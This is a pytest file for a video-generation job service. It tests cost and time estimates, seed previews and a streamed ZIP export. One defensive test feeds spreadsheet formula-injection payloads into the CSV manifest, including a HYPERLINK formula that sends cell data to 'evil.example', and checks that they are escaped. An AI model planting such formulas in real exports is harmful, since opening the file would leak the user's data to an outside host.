"""The dry-run numbers (`jobs.estimates`) and the streamed ZIP export (`jobs.exports`)."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from jobs import estimates, exports
from jobs.costs import fal_cost
from jobs.intake import UploadedFile, build_batch
from providers.simulators.media import make_image
from tests.jobs.factories import make_batch
from tests.web.helpers import finish_job


def spec_of(count, **kwargs):
    files = [UploadedFile(f"img{n}.png", make_image()) for n in range(count)]
    return build_batch(provider="fal", prompt="a slow pan", files=files, **kwargs)


def test_fal_costs_each_clip_and_runs_them_in_parallel(settings):
    settings.FAL_MAX_IN_FLIGHT, settings.FAL_ESTIMATED_SECONDS_PER_CLIP = 4, 90
    spec = spec_of(10, params={"num_frames": 81, "resolution": "720p"})

    estimate = estimates.estimate_fal(spec.items)

    assert estimate.items == 10
    assert estimate.cost_usd == fal_cost(spec.items[0].params) * 10 == Decimal("4.0500")
    assert estimate.seconds == 3 * 90  # ceil(10 / 4) rounds of 90 s


@pytest.mark.django_db
def test_the_rented_gpu_makes_clips_one_after_another_at_its_hourly_price(settings):
    settings.VAST_ESTIMATED_SECONDS_PER_CLIP, settings.VAST_ESTIMATED_DPH = 60, Decimal("1.50")

    estimate = estimates.estimate_vastai(spec_of(7).items)

    assert estimate.cost_usd == Decimal("0.1750")  # 7 × 60 s × $1.50 / 3600 s
    assert estimate.seconds == 420 and estimate.duration_text == "7 min"


@pytest.mark.django_db
def test_the_gpu_estimate_uses_measured_clips_and_the_rented_price_once_there_are_any(user):
    from gpu_instances.models import GpuInstance
    from jobs.models import Job
    from tests.jobs.factories import make_batch

    GpuInstance.objects.create(label="genhub", state="ready", dph_usd=Decimal("2.00"))
    batch = make_batch(user, provider="vastai", count=3)
    batch.jobs.update(status=Job.Status.SUCCEEDED, generation_seconds=90, finished_at=batch.created_at)

    estimate = estimates.estimate_vastai(spec_of(4).items)

    assert estimate.cost_usd == Decimal("0.2000")  # 4 × 90 s × $2.00 / 3600 s
    assert "$2.00/h" in estimate.basis


@pytest.mark.django_db
def test_every_provider_is_estimated_for_the_same_items():
    assert [e.provider for e in estimates.estimate_batch(spec_of(2).items)] == ["fal", "vastai"]


@pytest.mark.parametrize(("seconds", "text"), [(45, "45 s"), (89, "89 s"), (90, "2 min"), (3600, "60 min"),
                                               (7200, "2 h"), (12000, "3 h 20 min")])
def test_durations_read_as_rough_as_the_estimate_is(seconds, text):
    assert estimates.duration_text(seconds) == text


def test_the_preview_marks_seeds_nobody_gave_as_random():
    rows = "file,prompt,seed\nimg0.png,waves,42\nimg1.png,rain,\n"
    spec = spec_of(2, rows_text=rows)

    preview = estimates.preview_rows(spec, rows)

    assert [(r.file, r.prompt, r.seed) for r in preview] == [("img0.png", "waves", 42), ("img1.png", "rain", None)]
    assert (preview[0].width, preview[0].height) == (640, 480)


def test_a_batch_seed_makes_every_previewed_seed_fixed():
    preview = estimates.preview_rows(spec_of(1, params={"seed": 9}, seeds_per_image=2))

    assert [r.seed for r in preview] == [9, 10]


@pytest.mark.django_db
def test_the_export_streams_in_pieces_and_unpacks_to_the_manifest_and_videos(user):
    batch = make_batch(user, count=3)
    jobs = list(batch.jobs.all())
    for job in jobs[:2]:
        finish_job(job)

    chunks = list(exports.batch_zip_stream(jobs))

    assert len([c for c in chunks if c]) > 2  # written as it goes, not built whole in memory
    archive = zipfile.ZipFile(io.BytesIO(b"".join(chunks)))
    assert archive.testzip() is None
    assert archive.namelist() == ["manifest.csv", f"videos/0001-img0-seed{jobs[0].seed}.mp4",
                                  f"videos/0002-img1-seed{jobs[1].seed}.mp4"]
    assert archive.read("manifest.csv").decode().splitlines()[0] == ",".join(exports.MANIFEST_COLUMNS)


@pytest.mark.django_db
def test_one_image_used_for_several_seeds_gets_distinct_video_names(user):
    batch = make_batch(user, count=1, seeds_per_image=3)

    names = {exports.video_member_name(job) for job in batch.jobs.all()}

    assert len(names) == 3


@pytest.mark.django_db
@pytest.mark.parametrize("prompt", ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                    "\tcmd", "\r=1"])
def test_the_manifest_writes_formula_like_cells_as_text(user, prompt):
    batch = make_batch(user, count=1, prompt="a slow pan")
    batch.jobs.update(prompt=prompt, negative_prompt=prompt, error_message=prompt)

    manifest = exports.manifest_csv(batch.jobs.all())

    row = next(csv.DictReader(io.StringIO(manifest)))
    assert row["prompt"] == row["negative_prompt"] == row["error"] == "'" + prompt
    assert row["seed"] == str(batch.jobs.get().seed)  # numbers stay numbers


@pytest.mark.django_db
def test_the_manifest_leaves_ordinary_prompts_alone(user):
    batch = make_batch(user, count=1, prompt="a slow pan, 50% zoom = fine")

    row = next(csv.DictReader(io.StringIO(exports.manifest_csv(batch.jobs.all()))))

    assert row["prompt"] == "a slow pan, 50% zoom = fine"
